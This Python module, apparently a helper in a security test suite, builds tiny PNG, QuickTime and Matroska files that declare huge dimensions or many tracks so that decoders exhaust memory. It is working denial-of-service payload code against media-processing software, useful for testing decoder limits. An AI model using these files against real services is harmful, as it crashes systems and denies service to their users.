"""Films of a kilobyte that state more than any machine has."""

import struct
import zlib

from .attacks import box

MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
BRANDS = box(b"ftyp", b"qt  \0\0\0\0qt  ")


def full(kind: bytes, body: bytes, flags: int = 0) -> bytes:
    """Return an mp4 box with version 0 and flags."""
    return box(kind, struct.pack(">I", flags) + body)


def png(width: int, height: int) -> bytes:
    """Return the beginning of a picture of any size, for all of which a decoder allocates memory."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 4096))


def mov(width: int, height: int, sample: bytes, *, tracks: int = 1, rate: int = 25, chunks: int = 1) -> bytes:
    """Return a QuickTime film of PNG pictures whose chunks all contain the same picture."""
    begin = len(BRANDS) + len(box(b"mdat", b""))
    entry = (
        b"\0" * 6 + struct.pack(">H", 1) + b"\0" * 16 + struct.pack(">HHIIIH", width, height, 0x480000, 0x480000, 0, 1)
    )
    described = box(b"png ", entry + b"\0" * 32 + struct.pack(">Hh", 24, -1))
    table = box(
        b"stbl",
        full(b"stsd", struct.pack(">I", 1) + described)
        + full(b"stts", struct.pack(">III", 1, chunks, 1))
        + full(b"stsc", struct.pack(">IIII", 1, 1, 1, 1))
        + full(b"stsz", struct.pack(">II", len(sample), chunks))
        + full(b"stco", struct.pack(f">I{chunks}I", chunks, *[begin] * chunks)),
    )
    data = box(b"dinf", full(b"dref", struct.pack(">I", 1) + full(b"url ", b"", 1)))
    media = box(
        b"mdia",
        full(b"mdhd", struct.pack(">IIIIHH", 0, 0, rate, chunks, 0, 0))
        + full(b"hdlr", struct.pack(">I4s", 0, b"vide") + b"\0" * 12 + b"v\0")
        + box(b"minf", full(b"vmhd", b"\0" * 8, 1) + data + table),
    )
    shown = struct.pack(">II", width << 16, height << 16)
    every = b"".join(
        box(b"trak", full(b"tkhd", struct.pack(">5I", 0, 0, n + 1, 0, 1000) + b"\0" * 16 + MATRIX + shown, 7) + media)
        for n in range(tracks)
    )
    clock = struct.pack(">IIIIIH", 0, 0, 1000, 1000, 0x10000, 0x100)
    head = full(b"mvhd", clock + b"\0" * 10 + MATRIX + b"\0" * 24 + struct.pack(">I", tracks + 1))
    return BRANDS + box(b"mdat", sample) + box(b"moov", head + every)


def element(identity: str, body: bytes) -> bytes:
    """Return an element of Matroska, with the number in hexadecimal."""
    return bytes.fromhex(identity) + (1 << 56 | len(body)).to_bytes(8, "big") + body


def matroska_tracks(tracks: int) -> bytes:
    """Return a Matroska film with many VP8 tracks and one packet."""

    def track(number: int) -> bytes:
        name = number.to_bytes(4, "big")
        size = element("e0", element("b0", b"\x40") + element("ba", b"\x40"))
        return element(
            "ae", element("d7", name) + element("73c5", name) + element("83", b"\1") + element("86", b"V_VP8") + size
        )

    return element("1a45dfa3", element("4282", b"matroska")) + element(
        "18538067",
        element("1549a966", element("2ad7b1", b"\x0f\x42\x40"))
        + element("1654ae6b", b"".join(track(n) for n in range(1, tracks + 1)))
        + element("1f43b675", element("e7", b"\0") + element("a3", b"\x81\0\0\x80" + b"\0" * 40)),
    )
